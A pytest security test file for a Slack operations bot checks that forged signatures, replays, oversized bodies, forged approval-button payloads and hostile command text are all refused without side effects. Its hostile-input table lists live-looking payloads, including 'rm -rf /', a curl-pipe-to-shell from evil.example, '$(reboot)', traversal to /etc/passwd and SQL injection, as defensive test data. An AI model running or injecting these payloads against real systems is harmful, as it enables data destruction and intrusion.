"""Hostile input over real HTTP against a `bb-ops serve` process.

Unsigned, forged, replayed or stale requests → 401 and no side effect (no run row, no audit row, no
Slack call); oversized bodies → 413 (by Content-Length, and while a chunked body streams in);
command text with shell metacharacters, option injection, path traversal, control and bidi
characters, 10 KB of text → an ephemeral refusal that does not echo the payload, and nothing
started; button payloads are checked against the stored run (forged value, channel, message) →
refused, audited, told to the clicker only, the run unchanged.
"""

from __future__ import annotations

import contextlib
import time
from datetime import timedelta

import pytest

from bot.devkit.standin import SlackStandIn
from bot.devkit.world import (
    ALICE,
    BOB,
    CHANNEL,
    MALLORY,
    OTHER_CHANNEL,
    env_block,
    write_config,
)
from tests.support.processes import BotProcesses, metric_value

pytestmark = pytest.mark.chaos


@pytest.fixture(scope="module")
def bot_http(tmp_path_factory, session_target, redis_server):
    tmp = tmp_path_factory.mktemp("hostile")
    redis_server.flush()
    standin = SlackStandIn().start()
    config = write_config(tmp / "environments.yaml", {"production": env_block(
        session_target, snapshots_dir=tmp / "snapshots", aliases=["prod"])})
    procs = BotProcesses(tmp, config_path=config, redis_url=redis_server.url, standin=standin)
    procs.start_serve()
    yield procs
    procs.stop_all()
    standin.stop()


@contextlib.contextmanager
def no_side_effect(procs):
    """Nothing in the bot database, the queue or Slack changes inside the block."""
    runs, events = len(procs.runs()), len(procs.store.audit_events())
    snap, calls = procs.standin.snapshot(), len(procs.standin.calls())
    yield
    time.sleep(0.1)
    assert len(procs.runs()) == runs, "a run was recorded"
    assert len(procs.store.audit_events()) == events, "an audit event was written"
    assert procs.standin.changed_since(snap) == [], "something was posted to Slack"
    assert len(procs.standin.calls()) == calls, "Slack was called"


def refusals(procs, reason: str) -> float:
    return metric_value(procs.metrics(), "bbops_refused_total", reason=reason) or 0.0


# -- signatures ----------------------------------------------------------------------------------
def _cases(procs):
    body = procs.command_body(ALICE, CHANNEL, "readyz prod", trigger="1700000000.sig")
    good = procs.signed(body)
    now = int(time.time())
    ctype = {"content-type": "application/x-www-form-urlencoded"}
    return {
        "no signature headers": (body, ctype),
        "no signature": (body, {**ctype, "x-slack-request-timestamp": good["x-slack-request-timestamp"]}),
        "no timestamp": (body, {**ctype, "x-slack-signature": good["x-slack-signature"]}),
        "wrong secret": (body, procs.signed(body, secret="not-the-signing-secret")),
        "zero signature": (body, {**good, "x-slack-signature": "v0=" + "0" * 64}),
        "unknown version": (body, {**good, "x-slack-signature": "v1=" + good["x-slack-signature"][3:]}),
        "garbage signature": (body, {**good, "x-slack-signature": "garbage"}),
        "non-numeric timestamp": (body, {**good, "x-slack-request-timestamp": "abc"}),
        "tampered body": (body.replace("readyz", "migrate"), good),
        "replayed signature, new timestamp": (body, {**good, "x-slack-request-timestamp": str(now + 1)}),
        "timestamp older than 5 minutes": (body, procs.signed(body, timestamp=now - 5 * 60 - 5)),
        "timestamp 6 minutes ahead": (body, procs.signed(body, timestamp=now + 6 * 60)),
    }


@pytest.mark.timeout(60)
def test_unsigned_forged_replayed_and_stale_requests_get_401_and_change_nothing(bot_http):
    cases = _cases(bot_http)
    before = refusals(bot_http, "signature")
    with no_side_effect(bot_http):
        for name, (body, headers) in cases.items():
            resp = bot_http.post(body, headers)
            assert resp.status_code == 401, (name, resp.status_code, resp.text)
            assert "Queued" not in resp.text and "run" not in resp.text.lower(), name
    assert refusals(bot_http, "signature") - before == len(cases)


@pytest.mark.timeout(30)
def test_slacks_unsigned_ssl_check_is_answered_and_does_nothing(bot_http):
    with no_side_effect(bot_http):
        resp = bot_http.post("ssl_check=1&token=legacy", {"content-type": "application/x-www-form-urlencoded"})
        assert resp.status_code == 200 and resp.text == ""
        smuggled = "ssl_check=1&" + bot_http.command_body(ALICE, CHANNEL, "migrate prod")
        assert bot_http.post(smuggled, {"content-type": "application/x-www-form-urlencoded"}).status_code == 200


@pytest.mark.timeout(60)
def test_an_exact_replay_inside_the_window_is_a_redelivery_that_starts_nothing(bot_http):
    body = bot_http.command_body(ALICE, CHANNEL, "healthz prod", trigger="1700000000.replay")
    headers = bot_http.signed(body)
    first = bot_http.post(body, headers)
    assert first.status_code == 200
    run_id = int(first.json()["text"].split("Queued as run ", 1)[1].split(":", 1)[0])
    with no_side_effect(bot_http):
        for _ in range(3):
            again = bot_http.post(body, headers)  # byte for byte, signature and timestamp included
            assert again.status_code == 200
            assert f"Already received as run {run_id}" in again.json()["text"]


# -- bodies ----------------------------------------------------------------------------------------
@pytest.mark.timeout(60)
def test_oversized_bodies_get_413_before_anything_reads_them(bot_http):
    from bot.serve.http import MAX_BODY_BYTES

    before = refusals(bot_http, "body_too_large")
    big = bot_http.command_body(ALICE, CHANNEL, "readyz prod " + "x" * MAX_BODY_BYTES)
    with no_side_effect(bot_http):
        resp = bot_http.post(big, bot_http.signed(big))
        assert resp.status_code == 413 and resp.text == "request body too large"

        def chunks():  # no Content-Length: the limit is enforced while it streams in
            for _ in range(40):
                yield b"a" * 4096

        resp = bot_http.http.post(bot_http.url + "/slack/events", content=chunks(),
                                  headers=bot_http.signed("x"))
        assert resp.status_code == 413
        bad = b"text=\xff\xfe"
        resp = bot_http.post(bad, bot_http.signed("x"))
        assert resp.status_code == 400
    assert refusals(bot_http, "body_too_large") - before == 2


# -- command text -----------------------------------------------------------------------------
HOSTILE_TEXT = {
    "shell ; after env": ("readyz prod; rm -rf /", "is not a configured environment", "rm -rf"),
    "shell && pipe": ("readyz prod && curl https://evil.example/x.sh | sh", "`readyz` takes only an environment", "curl"),
    "command substitution": ("deploy prod $(reboot)", "A version is a release like", "$(reboot)"),
    "backticks": ("deploy prod `id`", "A version is a release like", "`id`"),
    "version with ;": ("deploy prod 1.2.3;id", "A version is a release like", "1.2.3;id"),
    "option injection --force": ("deploy prod 1.2.3 --force", "is not an option of `deploy`", None),
    "option injection --sql": ("migrate prod --sql=DROP", "`that option` is not an option of `migrate`", "DROP"),
    "option injection, single dash": ("rollback prod -rf", "A rollback target is `-1`", None),
    "option injection --": ("migrate prod -- --help", "is not an option of `migrate`", None),
    "traversal in revision": ("rollback prod ../../etc/passwd", "A rollback target is `-1`", "etc/passwd"),
    "traversal in snapshot": ("restore prod ../../etc/passwd", "A snapshot name has letters, digits", "etc/passwd"),
    "dotdot in snapshot": ("restore prod snap..backup", "A snapshot name has letters, digits", None),
    "hidden snapshot": ("restore prod .bashrc", "A snapshot name has letters, digits", ".bashrc"),
    "absolute snapshot": ("restore prod /var/lib/postgresql/data", "A snapshot name has letters, digits", "/var/lib"),
    "traversal in version": ("deploy prod ../../1.2.3", "A version is a release like", None),
    "zero-width space": ("readyz pro\u200bd", "contains control characters", "\u200b"),
    "bidi override": ("readyz prod\u202e", "contains bidirectional control characters", "\u202e"),
    "bidi isolate": ("readyz \u2066prod\u2069", "contains bidirectional control characters", "\u2066"),
    "NUL": ("readyz prod\x00", "contains control characters", "\x00"),
    "ANSI escape": ("readyz prod\x1b[31m", "contains control characters", "\x1b"),
    "newline, second command": ("readyz prod\nmigrate prod", "contains control characters", None),
    "homoglyph environment": ("readyz pr\u043ed", "is not a configured environment", "\u043e"),
    "fullwidth verb": ("\uff52\uff45\uff41\uff44\uff59\uff5a prod", "is not a bb-ops verb", "\uff52"),
    "10 KB of text": ("readyz prod " + "A" * 10 * 1024, "characters long; commands are at most 500", "AAAA"),
    "run id injection": ("status 1;2", "A run id is a number", None),
    "run id traversal": ("cancel ../1", "A run id is a number", None),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", list(HOSTILE_TEXT))
def test_hostile_command_text_is_refused_and_starts_nothing(bot_http, name):
    text, expected, not_echoed = HOSTILE_TEXT[name]
    with no_side_effect(bot_http):
        resp = bot_http.command(ALICE, CHANNEL, text)
        assert resp.status_code == 200
        ack = resp.json()
        assert ack["response_type"] == "ephemeral"
        assert ack["text"].startswith(":no_entry: ") and expected in ack["text"], ack["text"]
        if not_echoed:
            assert not_echoed not in ack["text"]


@pytest.mark.timeout(30)
def test_a_command_from_another_channel_is_refused_and_audited_only(bot_http):
    runs = len(bot_http.runs())
    events = len(bot_http.store.audit_events())
    resp = bot_http.command(ALICE, OTHER_CHANNEL, "migrate prod")
    assert "may not act on `production`" in resp.json()["text"] and "Nothing was started" in resp.json()["text"]
    assert len(bot_http.runs()) == runs
    new = bot_http.store.audit_events()[events:]
    assert [(e["event"], e["actor"], e["detail"]["reason"]) for e in new] == [("refused", ALICE, "channel not allowed")]


# -- buttons ---------------------------------------------------------------------------------------
def _awaiting_run(procs, trigger: str):
    """A migrate run waiting for approval, with its card in the channel, as a worker leaves it."""
    from slack_sdk import WebClient

    from bot.core.plan import Plan
    from bot.core.runs import RunStatus
    from bot.infra.db.models import utcnow
    from tests.support.runs import move_run

    run, _ = procs.store.create_run(verb="migrate", env="production", args={}, text="/bb migrate production",
                                    requester=ALICE, channel=CHANNEL, trigger_id=trigger)
    card = WebClient(token="xoxb-test", base_url=procs.standin.base_url).chat_postMessage(
        channel=CHANNEL, text=f":lock: run {run.id} needs approval")["ts"]
    plan = {"verb": "migrate", "env": "production", "current": "0005_budgets", "target": "0006_user_display_name",
            "revisions": [], "code": "0" * 16, "snapshot": "verified snapshot before the upgrade"}
    return move_run(procs.store, run.id, RunStatus.AWAITING_APPROVAL,
                    event="approval_requested", plan=plan, plan_hash=Plan.from_dict(plan).digest(),
                    expires_at=utcnow() + timedelta(minutes=30), card_ts=card, parent_ts=card)


@pytest.mark.timeout(60)
def test_forged_button_payloads_are_checked_against_the_stored_run(bot_http):
    run = _awaiting_run(bot_http, "1700000000.card1")
    other = _awaiting_run(bot_http, "1700000000.card2")
    forged = [
        ("value names another run's id", BOB, {"value": str(other.id)}, "forged",
         f"That button is not on run {other.id}'s current approval card"),
        ("value is not a run", BOB, {"value": "999999"}, "unknown_run", "does not belong to a known run"),
        ("value is SQL", BOB, {"value": f"{run.id}; DROP TABLE runs"}, "unknown_run", "does not belong to a known run"),
        ("value is negative", BOB, {"value": "-1"}, "unknown_run", "does not belong to a known run"),
        ("channel forged", BOB, {"channel": OTHER_CHANNEL}, "forged", f"not on run {run.id}'s current approval card"),
        ("message forged", BOB, {"message_ts": "1600000000.000100"}, "forged", "current approval card"),
        ("not an approver", MALLORY, {}, "not_approver", "you are not an approver for `production`"),
        ("self-approval", ALICE, {}, "self_approval", "another approver must approve it (four eyes)"),
    ]
    channel_before = [m for m in bot_http.standin.messages() if not m["ephemeral"]]
    for name, clicker, overrides, reason, message in forged:
        events = len(bot_http.store.audit_events())
        resp = bot_http.click(clicker, run, "approve", **overrides)
        assert resp.status_code == 200, name
        new = bot_http.store.audit_events()[events:]
        assert [(e["event"], e["actor"], e["detail"]["reason"]) for e in new] == [
            ("approval_refused", clicker, reason)], name
        ephemeral = [c["params"] for c in bot_http.standin.calls("chat.postEphemeral")][-1]
        assert ephemeral["user"] == clicker and message in ephemeral["text"], (name, ephemeral)
        assert bot_http.store.get_run(run.id).status.value == "awaiting_approval", name
        assert bot_http.store.get_run(other.id).status.value == "awaiting_approval", name
    assert [m for m in bot_http.standin.messages() if not m["ephemeral"]] == channel_before

    # the real button, pressed by an approver, still works: the checks refused the forgeries only
    resp = bot_http.click(BOB, run, "approve")
    assert resp.status_code == 200
    approved = bot_http.store.get_run(run.id)
    assert approved.status.value == "approved" and approved.approved_by == BOB
    from rq import Queue

    from bot.infra.runtime import connect_redis
    assert f"bbops-execute-{run.id}-0" in Queue("bbops-change", connection=connect_redis(bot_http.env["REDIS_URL"])).job_ids
    metrics = bot_http.metrics()
    assert metric_value(metrics, "bbops_refused_total", reason="click_forged") == 3.0
    assert metric_value(metrics, "bbops_refused_total", reason="click_unknown_run") == 3.0
    assert metric_value(metrics, "bbops_refused_total", reason="click_not_approver") == 1.0
    assert metric_value(metrics, "bbops_refused_total", reason="click_self_approval") == 1.0
